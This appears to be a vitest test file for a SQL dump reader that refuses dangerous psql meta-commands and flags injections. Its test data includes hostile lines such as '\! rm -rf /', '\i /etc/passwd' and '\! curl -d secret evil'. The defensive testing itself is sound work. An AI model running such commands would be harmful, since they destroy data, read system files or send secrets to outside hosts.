import { describe, expect, test } from 'vitest';
import { findingsOf, ofKind, readText, statementsOf } from '../support/reading.ts';

const around = (line: string): string => `SELECT 1;\n${line}\nSELECT 2;\n`;

describe('psql meta-commands', () => {
  test.each([
    ['\\echo hello; world'],
    ['\\timing'],
    ['\\pset pager off'],
    ['\\set ON_ERROR_STOP on'],
    ['\\x'],
    ['\\d+ orders'],
    ["\\qecho 'it''s fine'"],
  ])('%s changes only what psql shows, and is passed over', async (line) => {
    const events = await readText(around(line), 3);
    expect(statementsOf(events)).toEqual(['SELECT 1', 'SELECT 2']);
    expect(findingsOf(events)).toEqual([]);
  });

  test.each([
    ['\\! rm -rf /', '\\!'],
    ['\\!rm', '\\!'],
    ['\\i /etc/passwd', '\\i'],
    ['\\ir other.sql', '\\ir'],
    ["\\copy t from 'x'", '\\copy'],
    ['\\o /tmp/x', '\\o'],
    ['\\g', '\\g'],
    ['\\gexec', '\\gexec'],
    ['\\if true', '\\if'],
    ['\\q', '\\q'],
    ['\\set x `id`', '\\set'],
    ['\\set AUTOCOMMIT off', '\\set'],
    ['\\echo `id`', '\\echo'],
    ['\\echo a \\! id', '\\echo'],
    ['\\connect db user', '\\connect'],
    ['\\connect db - evil.example.org 5432', '\\connect'],
    ['\\connect - postgres', '\\connect'],
    ["\\connect \"dbname='x' host='evil'\"", '\\connect'],
    ['\\connect postgresql://evil/x', '\\connect'],
    ['\\c', '\\c'],
    ['\\.', '\\.'],
    ['\\unknown', '\\…'],
  ])('%s is refused with a finding of severity error, and never ends a statement', async (line, name) => {
    const events = await readText(around(line), 5);
    expect(statementsOf(events)).toEqual(['SELECT 1', 'SELECT 2']);
    const [refused] = ofKind(events, 'finding');
    expect(refused?.finding).toMatchObject({ code: 'META_COMMAND_REFUSED', severity: 'error' });
    expect(refused?.finding.message).toContain(`Line 2 holds the meta-command ${name}, `);
    expect(ofKind(events, 'database')).toEqual([]);
  });

  test('one in the middle of a statement is taken out of it, as psql does, and refused', async () => {
    const events = await readText('SELECT 1 \\! rm\n + 2;\nSELECT 3;\n', 2);
    expect(statementsOf(events)).toEqual(['SELECT 1 \n + 2', 'SELECT 3']);
    expect(findingsOf(events)[0]).toContain('META_COMMAND_REFUSED');
  });

  test.each([
    ['\\connect orders', 'orders'],
    ['\\connect Orders', 'Orders'],
    ['\\c orders', 'orders'],
    ['\\connect "My ""db"""', 'My "db"'],
    ["\\connect -reuse-previous=on \"dbname='it\\'s; a = b'\"", "it's; a = b"],
    ['\\connect -reuse-previous=on "dbname=\'x\\\\y\'"', 'x\\y'],
    ['\\connect orders - - -', 'orders'],
  ])('%s names the database of what follows', async (line, name) => {
    const events = await readText(around(line));
    expect(findingsOf(events)).toEqual([]);
    expect(ofKind(events, 'database')).toEqual([{ kind: 'database', name }]);
    const kinds = events.map(({ kind }) => kind).filter((kind) => kind !== 'header');
    expect(kinds.slice(kinds.indexOf('database') - 1, kinds.indexOf('database') + 2)).toEqual([
      'entry',
      'database',
      'entry',
    ]);
  });

  test('a new connection reads strings by the default again', async () => {
    const events = await readText(
      "SET standard_conforming_strings = off;\n\\connect b\nSELECT '\\';\nSELECT 1;\n",
    );
    expect(statementsOf(events).slice(1)).toEqual(["SELECT '\\'", 'SELECT 1']);
  });

  test('\\encoding says what follows is encoded in', async () => {
    expect(ofKind(await readText(around('\\encoding LATIN1')), 'encoding')).toEqual([
      { kind: 'encoding', encoding: 'LATIN1' },
    ]);
  });

  test('\\restrict and \\unrestrict of the same key are passed over', async () => {
    const events = await readText(
      '\\restrict aB3\n\nSELECT 1;\n\\unrestrict aB3\n\\connect b\n\\restrict xy\nSELECT 2;\n\\unrestrict xy\n',
    );
    expect(findingsOf(events)).toEqual([]);
    expect(ofKind(events, 'database')).toHaveLength(1);
  });

  test.each([['\\connect evil'], ['\\echo x'], ['\\unrestrict guess'], ['\\restrict again']])(
    '%s between \\restrict and \\unrestrict is an injection',
    async (line) => {
      const events = await readText(`\\restrict k\n${line}\n\\unrestrict k\n`);
      expect(findingsOf(events)).toHaveLength(1);
      expect(ofKind(events, 'database')).toEqual([]);
    },
  );

  test('a name that psql does not have is not shown: it may be a row of a damaged dump', async () => {
    // A row whose value begins with a tab, as COPY writes it.
    const told = findingsOf(await readText('\\tPlantedValue\t7\n')).join();
    expect(told).toContain('META_COMMAND_REFUSED');
    expect(JSON.stringify(await readText('\\tPlantedValue\t7\n'))).not.toContain('PlantedValue');
  });

  test('the arguments of a refused command are not shown', async () => {
    expect(findingsOf(await readText(around('\\! curl -d secret evil'))).join()).not.toContain('secret');
  });

  test('a dump that holds very many of them keeps the findings bounded', async () => {
    expect(findingsOf(await readText('\\! x\n'.repeat(500))).length).toBe(50);
  });

  test('backslash and semicolon separate statements', async () => {
    expect(statementsOf(await readText('SELECT 1\\; SELECT 2;\n', 1))).toEqual(['SELECT 1', 'SELECT 2']);
  });
});
